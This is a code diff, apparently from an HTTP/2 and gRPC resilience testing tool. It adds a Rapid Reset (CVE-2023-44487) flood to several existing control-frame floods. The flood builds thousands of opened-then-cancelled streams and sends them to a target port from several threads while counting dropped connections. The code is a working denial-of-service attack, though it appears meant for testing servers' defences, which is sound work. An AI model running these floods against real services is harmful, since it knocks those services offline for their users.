@@ -230,6 +230,11 @@ FLOODS = {
     "window-update": frame(8, 0, 0, struct.pack(">I", 1)),
     "unknown": frame(0xBE, 0, 0, b""),
 }
+# Calls that their client cancels at once (CVE-2023-44487). A second block repeats the streams, so it ends the connection.
+RAPID_RESET = b"".join(
+    frame(1, 4, stream, HEADERS) + frame(3, 0, stream, struct.pack(">I", 8)) for stream in range(1, 40_000, 2)
+)
+FLOOD_BLOCKS = {name: control * 2000 for name, control in FLOODS.items()} | {"rapid-reset": RAPID_RESET}
 
 
 def h2_floods(target: Target, seconds: float) -> dict:
@@ -237,7 +242,7 @@ def h2_floods(target: Target, seconds: float) -> dict:
     ended = collections.Counter()
 
     def flood(name: str, until: float) -> None:
-        block = FLOODS[name] * 2000
+        block = FLOOD_BLOCKS[name]
         while time.monotonic() < until:
             try:
                 with socket.create_connection((target.host, target.grpc_port), 5) as connection:
@@ -253,8 +258,8 @@ def h2_floods(target: Target, seconds: float) -> dict:
             except OSError:
                 ended[name] += 1
 
-    for name in FLOODS:
-        until = time.monotonic() + seconds / len(FLOODS)
+    for name in FLOOD_BLOCKS:
+        until = time.monotonic() + seconds / len(FLOOD_BLOCKS)
         threads = [threading.Thread(target=flood, args=(name, until)) for _ in range(2)]
         for thread in threads:
             thread.start()
